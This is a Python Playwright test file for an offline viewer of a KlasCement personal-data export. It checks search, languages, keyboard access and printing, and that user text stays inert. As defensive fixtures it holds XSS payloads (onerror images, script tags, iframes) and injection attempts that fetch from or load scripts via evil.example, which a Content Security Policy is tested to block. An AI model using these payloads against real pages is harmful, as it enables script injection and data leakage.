"""The reading page of an archive, opened from disk: it finds, speaks three languages, and takes nothing that people wrote for markup."""

import re

import pytest
from django.core.management import call_command
from playwright.sync_api import expect

from tests.archives import HOSTILE
from tests.viewing import MEMBER, SUBJECT, tables_of_an, write_folder

from .clean import BOTH_WAYS, EVERY_APPEARANCE, assert_clean, assert_silent
from .program import window
from .scene import AN
from .watch import watched_page

PLACES = ["", "accounts_member", "usage_message", "usage_resourceview", "usage_score", "search"]
# From disk, weight is no matter.
ANY_WEIGHT = 10**9
# What would run or leave, if it were taken for markup.
MARKUP = '<img src=x onerror="alert(1)"><script>alert(2)</script><iframe src="https://evil.example"></iframe>'
HUGE = "lang " * 200_000


@pytest.fixture(scope="module")
def index(tmp_path_factory):
    return write_folder(tmp_path_factory.mktemp("archive"), tables_of_an(viewed=2_100))


@pytest.fixture(scope="module")
def hostile_index(tmp_path_factory):
    """Every text of hers is out to break the page, titles and names of files too."""
    member = {name: f"{MARKUP} {HOSTILE}" if isinstance(value, str) else value for name, value in MEMBER.items()}
    messages = [
        {"id": 1, "sender": 7, "recipient": None, "text": MARKUP + HOSTILE, "sent_at": "2026-03-01T12:00:00.000000Z"},
        {"id": 2, "sender": 7, "recipient": None, "text": HUGE, "sent_at": "9999-99-99T99:99:99.999999Z"},
        {"id": 3, "sender": 7, "recipient": None, "text": {"__proto__": {"a": MARKUP}, "toString": None}, "sent_at": None},
    ]
    folder, tables = tmp_path_factory.mktemp("hostile"), tables_of_an(member, messages, viewed=20)
    return write_folder(folder, tables, resources=[(17, MARKUP), (18, HOSTILE)])


@pytest.fixture
def opened(chromium, windows):
    """A function that opens a page from disk at a place of it, and watches it."""

    def open_one(index, place="", **options):
        windows.append(window(chromium, "about:blank", **options))
        watch = watched_page(windows[-1])
        watch.page.goto(f"{index.as_uri()}#{place}")
        return watch

    return open_one


def seek(page, words):
    page.get_by_role("searchbox", name="Zoek in al je gegevens").fill(words)
    page.get_by_role("button", name="Zoeken").click()


def assert_stayed_home(watch, index):
    """Nothing was asked of anywhere but the folder."""
    folder = index.parent.as_uri()
    assert [request.url for request in watch.fetched if not request.url.startswith((folder, "data:"))] == []
    assert_silent(watch)


@pytest.mark.long
@pytest.mark.parametrize("place", PLACES)
def test_a_page_is_clean_from_disk(place, index, opened):
    """G-71"""
    watch = opened(index, place)

    expect(watch.page.get_by_role("heading", level=1)).to_be_visible()
    expect(watch.page.get_by_text("De tabel gaat open.")).to_have_count(0)

    assert_clean(watch, BOTH_WAYS, bytes_at_most=ANY_WEIGHT)
    assert_stayed_home(watch, index)


@pytest.mark.long
@pytest.mark.parametrize("place", PLACES)
def test_a_hostile_page_is_clean_in_every_appearance(place, hostile_index, opened):
    watch = opened(hostile_index, place)

    expect(watch.page.get_by_text("De tabel gaat open.")).to_have_count(0)

    assert_clean(watch, EVERY_APPEARANCE, bytes_at_most=ANY_WEIGHT)


def test_the_first_page_answers_what_we_know(index, opened):
    page = opened(index).page

    expect(page.get_by_role("heading", level=1)).to_have_text("Wat weet KlasCement over jou?")
    expect(page.locator(".answers .big")).to_have_text(["2.103", "1", "2"])
    expect(page.get_by_role("listitem").filter(has_text="Bekeken materiaal")).to_contain_text("2.100")
    expect(page.get_by_text("Dit kunnen we hebben, maar hebben we niet van je: scores.")).to_be_visible()
    expect(page.get_by_role("rowheader", name="Edupartner")).to_be_visible()


def test_a_table_shows_titles_meanings_dates_and_who_was_masked(index, opened):
    watch = opened(index, "usage_resourceview")
    expect(watch.page.locator("tbody tr").first).to_contain_text(
        re.compile(r"(Breuken|Romeinen|Fotosynthese).*29 nov 2026, 00:30", re.DOTALL)
    )

    watch.page.goto(f"{index.as_uri()}#accounts_member")
    expect(watch.page.locator(".facts").first).to_contain_text(re.compile(r"vrouw.*12 apr 1985.*ja.*9007199254740993", re.DOTALL))
    expect(watch.page.get_by_role("img", name="Foto")).to_have_js_property("naturalWidth", 400)

    watch.page.goto(f"{index.as_uri()}#usage_message")
    expect(watch.page.locator("tbody tr").first).to_contain_text(re.compile(r"iemand anders.*jij", re.DOTALL))
    assert_silent(watch)


@pytest.mark.long
def test_folders_columns_and_she_herself_go_by_what_people_call_them(tmp_path, opened):
    """G-24."""
    kept = {"id": 1, "folder": 3, "fields": ["first_name", "<b>town"], "done_by": SUBJECT}
    tables = tables_of_an() | {"usage_folder": [{"id": 3, "member": 7, "name": "<i>Examens"}], "usage_favourite": [kept]}
    page = opened(write_folder(tmp_path, tables), "usage_favourite").page

    for said in ("<i>Examens", "first name en <b>town", "jij"):
        expect(page.locator("tbody")).to_contain_text(said)
    expect(page.get_by_role("link", name="<i>Examens")).to_have_attribute("href", "#usage_folder")


def test_a_long_table_says_where_the_rest_is_and_grows_on_request(index, opened):
    page = opened(index, "usage_resourceview").page

    expect(page.locator(".note")).to_contain_text("Op deze pagina staan 2.000 van de 2.100 rijen.")
    expect(page.get_by_role("link", name="csv/usage_resourceview.csv")).to_be_visible()
    expect(page.locator("tbody tr")).to_have_count(50)

    page.get_by_role("button", name="Toon er nog 50").click()

    expect(page.locator("tbody tr")).to_have_count(100)
    expect(page.locator("tbody tr").nth(50)).to_be_focused()


def test_a_search_finds_words_in_every_table_without_their_accents(index, opened):
    watch = opened(index)

    seek(watch.page, "BRÉUKEN")

    expect(watch.page.get_by_role("status")).to_have_text(re.compile(r"\d+ rijen gevonden voor “BRÉUKEN”"))
    expect(watch.page.locator("mark").first).to_have_text("breuken")
    expect(watch.page.locator("section.hits h2")).to_have_text(
        [re.compile("Profiel 1"), re.compile("Berichten 1"), re.compile(r"Bekeken materiaal \d+")]
    )
    expect(watch.page.get_by_text("Hier zoek je in de nieuwste rijen van: bekeken materiaal.")).to_be_visible()
    assert_stayed_home(watch, index)


def test_what_a_search_found_is_shown_in_its_table(index, opened):
    page = opened(index).page
    seek(page, "oefening")

    page.get_by_role("link", name="Toon deze rij in de tabel").click()

    expect(page.get_by_role("heading", level=1)).to_have_text("Berichten")
    expect(page.get_by_role("searchbox")).to_have_value("oefening")
    expect(page.locator("tbody tr")).to_have_count(1)
    page.go_back()
    expect(page.get_by_role("status")).to_have_text("1 rij gevonden voor “oefening”.")


@pytest.mark.long
def test_a_search_without_hits_says_so(index, opened):
    page = opened(index).page

    seek(page, "zzzz")

    expect(page.get_by_role("status")).to_have_text("Niets gevonden voor “zzzz”.")


@pytest.mark.parametrize(("code", "asked"), [("EN", "What does KlasCement know about you?"), ("FR", "Que sait KlasCement sur vous ?")])
def test_another_language_is_one_press_away(code, asked, index, opened):
    watch = opened(index)

    watch.page.get_by_role("button", name=f"{code}, ").press("Enter")

    expect(watch.page.get_by_role("heading", level=1)).to_have_text(asked)
    expect(watch.page.locator("html")).to_have_attribute("lang", code.lower())
    expect(watch.page.get_by_role("button", name=f"{code}, ")).to_be_focused()
    expect(watch.page.locator(".bars [lang=nl]").first).to_be_visible()
    assert_silent(watch)


@pytest.mark.long
def test_every_page_is_reached_with_the_keyboard(index, opened):
    page = opened(index).page

    page.keyboard.press("Tab")
    expect(page.get_by_role("link", name="Naar de inhoud")).to_be_focused()
    page.get_by_role("link", name="Berichten").first.press("Enter")

    expect(page.get_by_role("heading", level=1)).to_be_focused()
    expect(page).to_have_title("Berichten · KlasCement")


def test_what_people_wrote_stays_text(hostile_index, opened):
    watch = opened(hostile_index)
    for place in PLACES[:4]:
        watch.page.goto(f"{hostile_index.as_uri()}#{place}")
        expect(watch.page.get_by_text("De tabel gaat open.")).to_have_count(0)
        assert watch.page.locator("main :is(script, iframe, img[src=x])").count() == 0

    watch.page.goto(f"{hostile_index.as_uri()}#usage_message")
    expect(watch.page.get_by_text("<script>alert(2)</script>").first).to_be_visible()
    assert_stayed_home(watch, hostile_index)


def test_a_megabyte_is_shown_when_it_is_asked_for(hostile_index, opened):
    page = opened(hostile_index, "usage_message").page
    rest = page.get_by_role("button", name="Toon de hele tekst (1.000.000 tekens)")
    expect(rest).to_be_visible()
    assert len(page.locator("main").inner_text()) < 10_000

    rest.click()

    assert len(page.locator("main").inner_text()) > 999_000


@pytest.mark.long
def test_a_search_goes_through_hostile_tables(hostile_index, opened):
    watch = opened(hostile_index)

    seek(watch.page, "onerror")

    expect(watch.page.get_by_role("status")).to_have_text(re.compile(r"rijen gevonden"))
    expect(watch.page.locator("mark").first).to_have_text("onerror")
    assert_stayed_home(watch, hostile_index)


@pytest.mark.parametrize(
    "attempt",
    [
        "body.innerHTML = `<img src=x onerror='window.ran = true'>`",
        "add('script').textContent = 'window.ran = true'",
        "add('script').src = 'https://evil.example/x.js'",
        "add('a').setAttribute('onclick', 'window.ran = true'); body.lastChild.click()",
        "add('img').src = 'https://evil.example/x.png'",
        "add('iframe').src = 'https://evil.example/'",
        "await fetch('https://evil.example/')",
    ],
)
def test_a_script_that_got_in_could_not_run_nor_call(attempt, index, opened):
    """Were there a way for markup after all: the policy stops what it would do next."""
    watch = opened(index)
    expect(watch.page.get_by_role("heading", level=1)).to_be_visible()

    watch.page.evaluate(
        f"""async () => {{
        const body = document.body, add = tag => body.appendChild(document.createElement(tag));
        try {{ {attempt}; }} catch {{ /* refused at once */ }}
    }}"""
    )

    assert watch.page.evaluate("window.ran") is None
    assert any("Content Security Policy" in complaint or "Trusted" in complaint for complaint in watch.complaints)
    assert not any("evil.example" in request.url for request in watch.fetched)


def test_what_the_product_writes_is_clean_from_disk(site, scene, tmp_path_factory, opened):
    """The whole way: a person of the demonstration, the operator's command, a browser; every table is opened."""
    folder = tmp_path_factory.mktemp("real") / "archive"
    site.do(call_command, "export_subject", AN, to=folder, format="dir", actor="test", reason="test")
    watch = opened(folder / "index.html", "search")

    seek(watch.page, "breuken")
    expect(watch.page.locator("mark").first).to_be_visible()
    for place in ["", *(script.stem for script in sorted((folder / "viewer/data").glob("*_*.js")))]:
        watch.page.goto(f"{(folder / 'index.html').as_uri()}#{place}")
        expect(watch.page.get_by_role("heading", level=1)).to_be_visible()

    assert_clean(watch, BOTH_WAYS, bytes_at_most=ANY_WEIGHT)
    assert_stayed_home(watch, folder / "index.html")


@pytest.mark.long
def test_a_table_whose_file_was_left_out_says_what_to_do(tmp_path, opened):
    index = write_folder(tmp_path)
    (tmp_path / "viewer/data/usage_message.js").unlink()

    page = opened(index, "usage_message").page

    expect(page.get_by_text("Pak het hele archief uit")).to_be_visible()


def test_without_scripts_the_page_leads_to_the_files(index, opened):
    watch = opened(index, java_script_enabled=False)

    expect(watch.page.get_by_role("link", name="report.pdf")).to_be_visible()
    expect(watch.page.get_by_role("link", name="Berichten")).to_have_attribute("href", "csv/usage_message.csv")


@pytest.mark.long
def test_on_paper_everything_is_unfolded_and_nothing_can_be_pressed(index, opened):
    page = opened(index).page
    expect(page.get_by_role("heading", level=1)).to_be_visible()

    page.emulate_media(media="print")
    page.evaluate("dispatchEvent(new Event('beforeprint'))")

    expect(page.get_by_text("Ja, op grond van overeenkomst en gerechtvaardigd belang.").first).to_be_visible()
    expect(page.get_by_role("button")).to_have_count(0)
